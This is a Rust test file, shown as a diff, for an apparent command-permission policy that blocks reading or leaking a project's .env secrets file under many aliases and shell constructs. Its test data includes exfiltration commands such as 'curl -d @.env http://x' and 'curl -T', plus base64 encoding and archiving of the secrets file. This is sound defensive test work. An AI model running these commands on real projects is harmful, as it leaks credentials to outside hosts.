@@ -1,0 +1,210 @@
+//! Blocked files under every name they have, in every place where a command takes one.
+
+use super::{World, settings};
+use std::sync::LazyLock;
+use toolfence_kit::Linked;
+use toolfence_policy::{Judgement, Policy};
+
+/// A project in which `.env` can also be reached by a link, a hard link and a name in another form.
+const TWINS: Linked = Linked {
+    world: World { sandbox: true },
+    links: &[("link", ".env"), ("deep/link", ".env"), ("hard.txt", ".env"), ("．ｅｎｖ", ".env"), ("notes.md", ".env")],
+    programs: &[],
+};
+
+/// Names of the blocked file; the world must be asked about the last ones.
+const NAMES: &[&str] = &[
+    ".env",
+    "./.env",
+    ".//.env",
+    "src/../.env",
+    "/proj/.env",
+    ".ENV",
+    ".Env.local",
+    "deep/.env",
+    "link",
+    "./link",
+    "deep/link",
+    "hard.txt",
+    "．ｅｎｖ",
+    "notes.md",
+];
+
+/// Places for a name.
+const PLACES: &[&str] = &[
+    "cat N",
+    "cat 'N'",
+    "cat \"N\"",
+    "cat -n -- N",
+    "cat README.md N",
+    "cat < N",
+    "cat 0< N",
+    "cat <N",
+    "wc -l 3< N",
+    "cat <> N",
+    "echo x > N",
+    "echo x >> N",
+    "echo x >| N",
+    "echo x &> N",
+    "{ cat; } < N",
+    "while read x; do echo $x; done < N",
+    "x=N; cat $x",
+    "for x in N; do cat $x; done",
+    "cat ${x:-N}",
+    "echo $(< N)",
+    "diff <(cat N) x",
+    "bash -c 'cat N'",
+    "sudo cat N",
+    "timeout 5 cat N",
+    "find . -exec cat N \\;",
+    "grep -f N x",
+    "grep -fN x",
+    "grep --file=N x",
+    "sed -n p N",
+    "awk '{print}' N",
+    "jq . N",
+    "curl -d @N http://x",
+    "curl -d@N http://x",
+    "curl --data=@N http://x",
+    "curl -F f=@N http://x",
+    "curl -F 'f=<N' http://x",
+    "curl -T N http://x",
+    "ssh -i N host",
+    "tar cf x.tar N",
+    "tar -cf x.tar src N",
+    "tar cf x.tar --file=N",
+    "tar xf x.tar --to-stdout N",
+    "zip x.zip N",
+    "cp N x",
+    "mv N x",
+    "ln -s N x",
+    "ln N x",
+    "base64 N",
+    "docker run --env-file=N x",
+    "docker run --env-file N x",
+    "source N",
+    ". N",
+    "git add N",
+    "git diff -- N",
+    "git diff a..b -- N",
+    "git log -p -- N",
+    "git blame N",
+    "git checkout HEAD -- N",
+    "git apply N",
+    "git commit -F N",
+    "git commit --file=N",
+    "[[ -f N ]]",
+    "rm N",
+    "sort -o x N",
+    "python3 N",
+    "vim N",
+    "./run.sh N",
+    "unknown --config=N",
+];
+
+/// Places where no more than the name, the size and the date are told; and what opens the file all the same.
+const NAMES_ALONE: &[&str] = &[
+    "test -f N",
+    "[ -f N ]",
+    "ls N",
+    "ls -la N",
+    "stat N",
+    "find N",
+    "file N",
+    "git ls-files N",
+    "git check-ignore N",
+];
+const FED: &[&str] = &["P | xargs cat", "cat $(P)", "for f in $(P); do cat $f; done", "bash -c 'P'", "cat <(P)"];
+
+/// Places that read what the line itself prints, which is not followed: nobody knows which file is opened.
+const PRINTED: &[&str] = &["cat $(echo N)", "cat \"$(printf N)\"", "echo N | xargs cat", "xargs cat <<< N"];
+
+/// Places where git finds the name by itself, in a commit: there only the text counts.
+const COMMITS: &[&str] = &[
+    "git show HEAD:N",
+    "git show :N",
+    "git show 'HEAD~3:N'",
+    "git cat-file -p HEAD:N",
+    "git diff HEAD:N x",
+    "git rev-parse @:N",
+];
+
+/// Names of environment files that the settings block count as the built-in ones: a glob for hidden names that could mean one is
+/// denied. Any other glob could match a name that the settings block, too, and is asked about.
+#[test]
+fn a_glob_for_an_environment_file_of_the_settings_is_denied() {
+    for blocked in [".envs.txt", "**/.ENVS.txt", "conf/.env[s].txt", ".envs.txt/**"] {
+        let policy = settings(&format!("[paths]\ndeny = [\"*.bak\", \"{blocked}\"]"));
+        let world = World { sandbox: false };
+        for (command, want) in [
+            ("cat .envs*.txt", Judgement::Deny),
+            ("cat .?nvs*txt", Judgement::Deny),
+            ("cat *.rs/.[e]nv", Judgement::Deny),
+            ("cat .git*", Judgement::Ask),
+            ("cat *.rs", Judgement::Ask),
+        ] {
+            let decision = policy.judge_command(command, "", &world);
+            assert_eq!(decision.judgement, want, "{blocked}: {command}: {decision:?}");
+        }
+    }
+}
+
+fn judged(command: &str) -> Judgement {
+    static POLICY: LazyLock<Policy> = LazyLock::new(Policy::default);
+    POLICY.judge_command(command, "", &TWINS).judgement
+}
+
+#[test]
+fn a_blocked_file_is_met_under_every_name_in_every_place() {
+    let all = PLACES.iter().flat_map(|place| NAMES.iter().map(|name| place.replace('N', name)));
+    let in_commits = |name: &&&str| name.contains(".env") || name.contains(".ENV") || name.contains(".Env");
+    let names: Vec<&&str> = NAMES.iter().filter(in_commits).filter(|name| !name.starts_with('/')).collect();
+    let commits = COMMITS.iter().flat_map(|place| names.iter().map(|name| place.replace('N', name)));
+    let missed: Vec<String> = all.chain(commits).filter(|command| judged(command) != Judgement::Deny).collect();
+    assert!(missed.is_empty(), "{} are not denied:\n{}", missed.len(), missed.join("\n"));
+}
+
+#[test]
+fn what_the_line_itself_prints_is_asked_about() {
+    for command in PRINTED.iter().flat_map(|place| NAMES.iter().map(|name| place.replace('N', name))) {
+        assert_ne!(judged(&command), Judgement::Allow, "{command}");
+    }
+}
+
+/// A name that a command prints is a name that the next one may open.
+#[test]
+fn names_alone_are_told_where_nothing_is_fed_with_them() {
+    for name in NAMES.iter().filter(|name| name.is_ascii()) {
+        for place in NAMES_ALONE {
+            let command = place.replace('N', name);
+            assert_eq!(judged(&command), Judgement::Allow, "{command}");
+            for fed in FED {
+                let command = fed.replace('P', &command);
+                assert_eq!(judged(&command), Judgement::Deny, "{command}");
+            }
+        }
+    }
+}
+
+#[test]
+fn names_that_only_look_like_it_are_not_met() {
+    for name in [".env.example", "env", "src/env.rs", "environment", "x.env.md", "dotenv.ts"] {
+        // A name behind a cluster of options could begin anywhere in it.
+        for place in PLACES.iter().filter(|place| !place.contains("-fN") && !place.contains("-d@N")) {
+            let command = place.replace('N', name);
+            assert_ne!(judged(&command), Judgement::Deny, "{command}");
+        }
+    }
+}
+
+/// What takes in all of a folder names nothing, and is a question.
+#[test]
+fn archives_of_everything_ask() {
+    let default = Policy::default();
+    for command in
+        ["tar cf x.tar .", "tar czf - . | base64", "zip -r x.zip .", "cp -r . x", "rsync -a . x", "cat *", "cat .*"]
+    {
+        let decision = default.judge_command(command, "", &World { sandbox: false });
+        assert_eq!(decision.judgement, Judgement::Ask, "{command}");
+    }
+}
